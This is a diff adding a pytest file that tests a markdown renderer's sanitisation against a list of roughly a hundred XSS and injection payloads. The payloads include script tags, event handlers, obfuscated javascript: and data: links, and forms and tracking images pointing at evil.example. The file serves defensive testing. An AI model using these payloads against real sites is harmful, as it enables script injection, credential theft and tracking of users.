@@ -1,0 +1,212 @@
+"""Markdown is safe whoever wrote it (R61): attacks as people and pages really write them."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from memory.markdown import link_citations, render
+
+ATTACKS = (
+    # raw HTML
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=`javascript:alert(1)`>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='//evil.example/x.swf'>",
+    "<form action='//evil.example'><input name=password></form>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<body onload=alert(1)>",
+    "<style>body{background:url('//evil.example/x')}</style>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href='//evil.example/'>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<p style='position:fixed;inset:0'>over everything</p>",
+    "<div hx-get='/settings/' hx-trigger='load'>x</div>",
+    "<button formaction='javascript:alert(1)'>x</button>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?><script>alert(1)</script>",
+    "</article></main><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>",
+    "`` ` ``<script>alert(1)</script>",
+    # links
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x]( javascript:alert(1) )",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://a.example/1)",
+    "[x](//evil.example/)",
+    "[x](/\\evil.example/)",
+    "[x](\\\\evil.example\\x)",
+    "[x](/\t/evil.example)",
+    "[x](https:\\\\evil.example)",
+    "[x](http:evil)",
+    "[x](https://)",
+    "[x](mailto:a@b.example)",
+    "[x](tel:123)",
+    "[x](ftp://a.example/)",
+    "[x](javascript://a.example/%0aalert(1))",
+    "[x](http://a.example/\"onmouseover=\"alert(1))",
+    "[x](http://a.example 'title\" onclick=alert(1) x=\"')",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "[x][1]\n\n[1]: javascript:alert(1)",
+    "[x][1]\n\n[1]: http://a.example \"t' onclick='alert(1)\"",
+    "[javascript:alert(1)]()",
+    "[x](https://a.example/\u202ecod.exe)",
+    # pictures
+    "![x](http://evil.example/track.png)",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "![x\" onerror=\"alert(1)](http://a.example/x.png)",
+    "[![x](http://evil.example/a.png)](javascript:alert(1))",
+    "![x][1]\n\n[1]: http://evil.example/track.png",
+    # structure and extensions
+    "# <img src=x onerror=alert(1)>",
+    "```\"><script>alert(1)</script>\nx\n```",
+    "```js onload=alert(1) class=x\nx\n```",
+    "~~~</code></pre><script>alert(1)</script>\n~~~",
+    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | c |",
+    "- [ ] <img src=x onerror=alert(1)>",
+    "- [x] [y](javascript:alert(1))",
+    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
+    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
+    "x^[inline <script>alert(1)</script>]",
+    "x[^main]\n\n[^main]: a name of ours",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<script\x00>alert(1)</script>",
+    "<scr\u0131pt>alert(1)</scr\u0131pt>",
+    "<a href=\"http://a.example\" target=_blank ping='//evil.example'>x</a>",
+    "> " * 2000 + "x",
+    "[" * 5000 + "x" + "]" * 5000,
+    "*" * 20_000,
+    "![" * 3000,
+    "`" * 9999 + "x",
+    "- " * 1000 + "x",
+    "<" * 10_000,
+    "a **b _c **d_ e** " * 500,
+    "{{ 7*7 }} {% load i18n %} ${7*7}",
+    "\ud800 lone \udfff",
+)  # fmt: skip
+
+LOADS = {"script", "img", "iframe", "object", "embed", "link", "style", "svg", "math", "video",
+         "audio", "source", "form", "meta", "base", "template", "button", "body", "noscript",
+         "marquee", "details", "picture"}  # fmt: skip
+
+
+class _Elements(HTMLParser):
+    """Collects what a browser would make of HTML."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
+    parser = _Elements()
+    parser.feed(html)
+    return parser.found
+
+
+def _is_ours(address: str) -> bool:
+    """Whether a browser, which drops control characters, would stay here or go by http(s)."""
+    squeezed = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/")
+    if squeezed.startswith("//"):
+        return False
+    return squeezed.startswith(("#", "/")) or urlsplit(squeezed).scheme in ("http", "https")
+
+
+@pytest.mark.requirement("R61")
+@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
+def test_an_attack_runs_nothing_loads_nothing_and_leads_nowhere(attack: str) -> None:
+    for tag, attributes in elements(render(attack)):
+        assert tag not in LOADS
+        assert not [name for name in attributes if name.startswith(("on", "hx-", "style", "src"))]
+        assert set(attributes) <= {
+            "href", "title", "rel", "class", "id", "start", "align", "type", "checked", "disabled"
+        }  # fmt: skip
+        if "href" in attributes:
+            assert _is_ours(attributes["href"] or "")
+            assert attributes["rel"] == "nofollow noopener noreferrer"
+        if "id" in attributes:
+            assert (attributes["id"] or "").startswith("fn")
+
+
+def test_there_are_at_least_sixty_attacks() -> None:
+    assert len(set(ATTACKS)) >= 60
+
+
+@pytest.mark.requirement("R61")
+@pytest.mark.parametrize(
+    ("text", "address"),
+    [
+        ("[x](https://a.example/b?c=d&e=f#g)", "https://a.example/b?c=d&e=f#g"),
+        ("<http://a.example/>", "http://a.example/"),
+        ("[x](/topics/c-12345678/)", "/topics/c-12345678/"),
+        ("[x](#what-changed)", "#what-changed"),
+        ("[x](https://例え.example/ü)", "https://xn--r8jz45g.example/%C3%BC"),
+        ("![a chart](https://a.example/c.png)", "https://a.example/c.png"),
+    ],
+)
+def test_honest_links_work(text: str, address: str) -> None:
+    links = [attributes["href"] for tag, attributes in elements(render(text)) if tag == "a"]
+    assert links == [address]
+
+
+def test_headings_leave_the_first_level_to_the_page() -> None:
+    assert [tag for tag, _a in elements(render("# a\n\n## b\n\n###### c"))] == ["h2", "h3", "h6"]
+
+
+def test_tables_task_lists_and_footnotes_are_shown() -> None:
+    text = "|a|b|\n|:-|-:|\n|1|2|\n\n- [x] done\n\nsee[^1]\n\n[^1]: below"
+    html = render(text)
+    assert '<td align="right">2</td>' in html
+    assert 'checked="checked"' in html
+    assert html.count('href="#fn1"') == html.count('id="fn1"') == 1
+
+
+def test_a_picture_becomes_a_link_with_its_words() -> None:
+    html = render("![a *fine* chart](https://a.example/c.png)")
+    assert html.startswith('<p><a href="https://a.example/c.png"')
+    assert ">a fine chart</a>" in html
+
+
+@pytest.mark.requirement("R48")
+def test_citations_lead_to_their_sources_and_nothing_else_does() -> None:
+    html = link_citations(
+        render("So it is [1], not [7]. `[1]` and [t [1]](https://a.example)"), [1]
+    )
+    assert html.count('<sup><a href="#source-1">[1]</a></sup>') == 1
+    assert "[7]" in html
+    assert "<code>[1]</code>" in html
+
+
+def test_chinese_and_right_to_left_text_is_kept() -> None:
+    assert "固态**电池" not in render("**固态**电池 שלום 💥")
+    assert "שלום 💥" in render("**固态**电池 שלום 💥")
